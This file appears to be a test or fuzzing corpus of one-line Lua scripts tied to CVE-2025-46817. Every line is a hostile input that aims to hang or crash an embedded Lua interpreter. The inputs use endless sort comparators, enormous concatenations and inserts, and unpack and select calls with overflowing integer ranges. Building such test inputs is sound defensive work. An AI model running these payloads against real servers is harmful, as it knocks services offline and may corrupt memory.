-- Loops of C by what a script says (CVE-2025-46817).
local t={} for i=1,1e5 do t[i]=i end while true do table.sort(t,function(a,b) return true end) end
local t={} for i=1,1e5 do t[i]=i end table.sort(t,function(a,b) while true do end end)
local t={} for i=1,1e5 do t[i]=1 end table.sort(t,function(a,b) return a<=b end)
local n=1e5 local t={} for i=1,n do t[i]=0 end local c=0 local solid=0 local nsolid=0 local cand=0 local gas=n table.sort(t,function(a,b) c=c+1 return c%2==0 end) return c
local t={} for i=1,1e5 do t[i]=(i*7919)%1e5 end for i=1,1e4 do table.sort(t) end
local t={} for i=1,2e5 do t[i]=("x"):rep(100)..(i%7) end for i=1,1e5 do table.sort(t) end
table.insert({},-2147483647,1)
local t={} t[1]=1 for i=1,1e6 do table.insert(t,-1e8,1) end
local t={} for i=1,1e6 do t[i]=i end while true do table.insert(t,1,1) end
local t={} for i=1,1e6 do t[i]=i end while #t>0 do table.remove(t,1) end
return table.concat({},"x",1,2^31-1)
local t={} for i=1,1e5 do t[i]="x" end return table.concat(t,("y"):rep(1e5))
return table.concat({("x"):rep(1e7),("x"):rep(1e7),("x"):rep(1e7)},("y"):rep(1e7))
local t={} for i=1,1e6 do t[i]=i end while true do table.maxn(t) end
local t={} for i=1,2e6 do t[i]=i end for i=1,2e6 do t[i]=nil end while true do next(t) end
return string.format(("%s"):rep(1000),unpack({},1,1000))
return string.char(unpack({},1,7000))
return {unpack({},1,1e7)}
return {unpack({},-2^31,2^31-1)}
return {unpack({},0,2^31-1)}
return {unpack({},1,8000)}
local function f(...) return select('#',...) end return f(unpack({},1,7990))
return select(-1,1)
return select(0,1)
return select(2^31,1)
return select(-2^31,1)
